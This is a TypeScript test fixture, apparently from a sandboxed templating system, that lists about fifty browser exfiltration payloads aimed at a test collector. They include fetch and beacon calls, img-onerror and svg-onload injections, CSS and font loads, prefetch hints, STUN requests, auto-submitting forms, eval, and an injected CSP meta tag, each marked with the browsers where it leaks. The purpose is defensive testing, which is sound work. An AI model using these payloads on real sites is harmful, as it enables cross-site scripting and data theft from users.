/**
 * What a hostile author, value, model, memory or frame would send to reach the outside. Each is tried by every way it could
 * come in: as a template's source, as a value, and as if it had come through all of that.
 */

/** Where a payload would be seen if it got out. */
export interface Sink {
  /** Origin of the collector. */
  address: string
  /** Origin of the host page, for its own redirector. */
  host: string
  /** A host name that only the payload with this label knows. */
  nameOf(label: string): string
  datagramPort: number
}

export interface Threat {
  name: string
  /** Markup of a template's author, or script for the case that the one pinned script had gone bad. */
  kind: 'markup' | 'script'
  text(sink: Sink): string
  /** Labels of which at least one reaches the collector or a resolver in this browser without our policies; otherwise the browser itself stops it. */
  leaks: { chromium: readonly string[]; firefox: readonly string[] }
  /** Browsers without a policy against it: there the runtime takes a script's interface away before anything else can run; markup is refused at publishing and is never a value. */
  unpoliced?: readonly 'firefox'[]
  /** Rule, line and column with which publishing refuses the markup. */
  refused?: readonly [rule: string, line: number, column: number]
}

type Leaks = Threat['leaks']
const everywhere = (...labels: string[]): Leaks => ({ chromium: labels, firefox: labels })
const nowhere: Leaks = { chromium: [], firefox: [] }

function markup(
  name: string,
  refused: NonNullable<Threat['refused']>,
  leaks: Leaks,
  text: Threat['text'],
  unpoliced: Threat['unpoliced'] = [],
): Threat {
  return { name, kind: 'markup', text, leaks, refused, unpoliced }
}

function script(name: string, leaks: Leaks, text: Threat['text'], unpoliced: Threat['unpoliced'] = []): Threat {
  return { name, kind: 'script', text, leaks, unpoliced }
}

export const threats: readonly Threat[] = [
  script('fetch', everywhere('fetch'), ({ address }) => `fetch('${address}/fetch', { mode: 'no-cors' })`),
  script('xhr', everywhere('xhr'), ({ address }) => `const x = new XMLHttpRequest(); x.open('GET', '${address}/xhr'); x.send()`),
  script('beacon', everywhere('beacon'), ({ address }) => `navigator.sendBeacon('${address}/beacon', 'x')`),
  script('websocket', everywhere('websocket'), ({ address }) => `new WebSocket('${address.replace('http', 'ws')}/websocket')`),
  script('eventsource', everywhere('eventsource'), ({ address }) => `new EventSource('${address}/eventsource')`),
  script('image', everywhere('image'), ({ address }) => `new Image().src = '${address}/image'`),
  markup('img', ['element', 1, 1], everywhere('img'), ({ address }) => `<img src="${address}/img">`),
  markup(
    'img-onerror',
    ['element', 1, 1],
    everywhere('img-onerror'),
    ({ address }) => `<img src="data:x" onerror="fetch('${address}/img-onerror')">`,
  ),
  markup('svg-onload', ['attribute', 1, 6], everywhere('svg-onload'), ({ address }) => `<svg onload="fetch('${address}/svg-onload')"></svg>`),
  markup(
    'svg-image',
    ['element', 2, 3],
    everywhere('svg-image'),
    ({ address }) => `<svg>\n  <image href="${address}/svg-image" width="9" height="9"></image>\n</svg>`,
  ),
  markup(
    'style-background',
    ['element', 1, 1],
    everywhere('style-background'),
    ({ address }) => `<style>body{background:url(${address}/style-background)}</style>`,
  ),
  markup('style-import', ['element', 1, 1], everywhere('style-import'), ({ address }) => `<style>@import "${address}/style-import";</style>`),
  markup(
    'style-font',
    ['element', 1, 1],
    everywhere('style-font'),
    ({ address }) => `<style>@font-face{font-family:x;src:url(${address}/style-font)}body{font-family:x}</style>text`,
  ),
  markup(
    'style-attribute',
    ['element', 1, 1],
    everywhere('style-attribute'),
    ({ address }) => `<style>main[id^=c]{background:url(${address}/style-attribute)}</style>`,
  ),
  markup(
    'style-inline',
    ['attribute', 1, 4],
    everywhere('style-inline'),
    ({ address }) => `<p style="background:url(${address}/style-inline)">x</p>`,
  ),
  markup(
    'link-stylesheet',
    ['element', 1, 1],
    everywhere('link-stylesheet'),
    ({ address }) => `<link rel="stylesheet" href="${address}/link-stylesheet">`,
  ),
  markup(
    'link-preload',
    ['element', 1, 1],
    everywhere('link-preload', 'link-prefetch'),
    ({ address }) => `<link rel="preload" as="image" href="${address}/link-preload"><link rel="prefetch" href="${address}/link-prefetch">`,
  ),
  markup('link-dns-prefetch', ['element', 1, 1], everywhere('link-dns-prefetch'), ({ nameOf }) => {
    return `<link rel="dns-prefetch" href="//${nameOf('link-dns-prefetch')}">`
  }),
  markup(
    'link-preconnect',
    ['element', 1, 1],
    everywhere('link-preconnect'),
    ({ nameOf }) => `<link rel="preconnect" href="http://${nameOf('link-preconnect')}/">`,
    ['firefox'],
  ),
  markup(
    'link-modulepreload',
    ['element', 1, 1],
    everywhere('link-modulepreload'),
    ({ address }) => `<link rel="modulepreload" href="${address}/link-modulepreload">`,
  ),
  markup('speculation-rules', ['element', 1, 1], nowhere, ({ address }) => {
    return `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${address}/speculation-rules"]}]}</script>`
  }),
  markup(
    'meta-refresh',
    ['element', 1, 1],
    everywhere('meta-refresh'),
    ({ address }) => `<meta http-equiv="refresh" content="0;url=${address}/meta-refresh">`,
  ),
  script('location', everywhere('location'), ({ address }) => `location = '${address}/location'`),
  script('blob-navigation', nowhere, ({ address }) => {
    return `location = URL.createObjectURL(new Blob(['<meta http-equiv=refresh content="0;url=${address}/blob-navigation">'], { type: 'text/html' }))`
  }),
  script('data-navigation', nowhere, ({ address }) => {
    return `location = 'data:text/html,<meta http-equiv=refresh content="0;url=${address}/data-navigation">'`
  }),
  markup('link-anchor', ['element', 1, 1], nowhere, ({ address }) => `<a href="${address}/link-anchor" ping="${address}/link-ping">x</a>`),
  script('link-click', everywhere('link-click', 'ping'), ({ address }) => {
    return `const a = document.createElement('a'); a.href = '${address}/link-click'; a.ping = '${address}/ping'; document.documentElement.append(a); a.click()`
  }),
  script(
    'stun',
    everywhere('stun'),
    ({ datagramPort }) => {
      return `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${datagramPort}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`
    },
    ['firefox'],
  ),
  script(
    'stun-name',
    everywhere('stun-name'),
    ({ nameOf }) => {
      return `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${nameOf('stun-name')}:3478' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`
    },
    ['firefox'],
  ),
  markup('iframe', ['element', 1, 1], everywhere('iframe'), ({ address }) => `<iframe src="${address}/iframe"></iframe>`),
  markup('object', ['element', 1, 1], nowhere, ({ address }) => `<object data="${address}/object"></object>`),
  markup('embed', ['element', 1, 1], nowhere, ({ address }) => `<embed src="${address}/embed">`),
  markup('video', ['element', 1, 1], everywhere('video', 'poster', 'audio'), ({ address }) => {
    return `<video src="${address}/video" poster="${address}/poster" autoplay></video><audio src="${address}/audio" autoplay></audio>`
  }),
  markup('base', ['element', 1, 1], everywhere('base/x'), ({ address }) => `<base href="${address}/base/"><img src="x">`),
  script('form-submit', nowhere, ({ address }) => {
    return `const f = document.createElement('form'); f.action = '${address}/form-submit'; document.documentElement.append(f); f.submit()`
  }),
  markup('form', ['element', 1, 1], nowhere, ({ address }) => {
    return `<form action="${address}/form"><input name="password" autofocus onfocus="form.submit()"></form>`
  }),
  markup('script-inline', ['element', 1, 1], everywhere('script-inline'), ({ address }) => `<script>fetch('${address}/script-inline')</script>`),
  markup('script-external', ['element', 1, 1], everywhere('script-external', 'script-module'), ({ address }) => {
    return `<script src="${address}/script-external"></script><script type="module" src="${address}/script-module"></script>`
  }),
  script(
    'dynamic-script',
    everywhere('dynamic-script'),
    ({ address }) => `const s = document.createElement('script'); s.src = '${address}/dynamic-script'; document.head.append(s)`,
  ),
  script('dynamic-import', everywhere('dynamic-import'), ({ address }) => `import('${address}/dynamic-import')`),
  script('blob-worker', everywhere('blob-worker'), ({ address }) => `new Worker(URL.createObjectURL(new Blob(["fetch('${address}/blob-worker')"])))`),
  script('evaluate', everywhere('evaluate'), ({ address }) => `eval("fetch('${address}/evaluate')")`),
  script('set-html', everywhere('set-html'), ({ address }) => {
    return `const d = document.createElement('div'); document.documentElement.append(d); (d.setHTMLUnsafe ?? d.setHTML).call(d, '<img src="${address}/set-html">')`
  }),
  script(
    'font-face',
    everywhere('font-face'),
    ({ address }) => `document.fonts.add(new FontFace('x', 'url(${address}/font-face)')); document.fonts.load('16px x')`,
  ),
  script('style-sheet', everywhere('style-sheet'), ({ address }) => {
    return `const s = new CSSStyleSheet(); s.replaceSync('html{background:url(${address}/style-sheet)}'); document.adoptedStyleSheets = [s]`
  }),
  script(
    'frame-child',
    everywhere('frame-child'),
    ({ address }) => `const i = document.createElement('iframe'); i.src = '${address}/frame-child'; document.documentElement.append(i)`,
  ),
  script('popup', nowhere, ({ address }) => `open('${address}/popup')`),
  script('top', nowhere, ({ address }) => `top.location = '${address}/top'`),
  markup('meta-policy', ['element', 1, 1], everywhere('meta-policy'), ({ address }) => {
    return `<meta http-equiv="content-security-policy" content="default-src *; script-src 'unsafe-inline'"><script>fetch('${address}/meta-policy')</script>`
  }),
  script('redirector', everywhere('redirector'), ({ address, host }) => {
    return `location = '${host}/redirect?to=' + encodeURIComponent('${address}/redirector')`
  }),
]
